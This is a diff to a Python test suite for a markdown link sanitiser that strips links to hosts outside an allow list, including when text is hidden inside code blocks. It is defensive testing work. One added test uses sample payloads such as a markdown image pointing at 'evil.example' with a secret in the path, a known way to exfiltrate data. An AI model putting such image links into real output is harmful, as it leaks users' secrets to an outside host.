@@ -53,13 +53,16 @@ def found_by(reader, markdown):
 @example("`" * 21 + EVIL + "`" * 21)
 @example(f"\\`{EVIL}\\`")
 @example("]://a")
+@example("\n<br>\n    [")
+@example("https:```")
 @example(f"<br>~~~\n~~~\n{EVIL}\n~~~")
 def test_no_reader_of_markdown_finds_another_link(markdown):
     """With HTML or without, with tables or without, with bare URLs as links too."""
     written = only_links(markdown, ALLOWED)
+    again = only_links(written, ALLOWED)  # an answer passes more than one way out
     for reader in READERS:
         assert [url for url in found_by(reader, written) if url not in ALLOWED] == []
-    assert only_links(written, ALLOWED) == written
+        assert [url for url in found_by(reader, again) if url not in ALLOWED] == []
 
 
 @pytest.mark.parametrize(
@@ -158,3 +161,12 @@ def test_hostile_text_takes_linear_time(unit):
     started = time.process_time()
     only_urls(unit * (1_000_000 // len(unit)), ALLOWED)
     assert time.process_time() - started < 8
+
+
+@pytest.mark.parametrize("text", ["![x](http://evil.example/c/SECRET)", "[x](http://evil.example/)", "<@U1>"])
+@pytest.mark.parametrize("block", ["```\n{}\n```", "~~~\n{}\n~~~", "> ```\n> {}\n> ```", "    {}\n"])
+def test_marks_of_ours_move_no_text_out_of_code(text, block):
+    """The characters around the numbers of sources are nobody else's to use."""
+    shown = only_links(block.format(f"\x0e{text}\x0f"), AllowedLinks(()))
+    assert not [token for token in MarkdownIt().parse(shown) if token.children]
+    assert "\x0e" not in shown
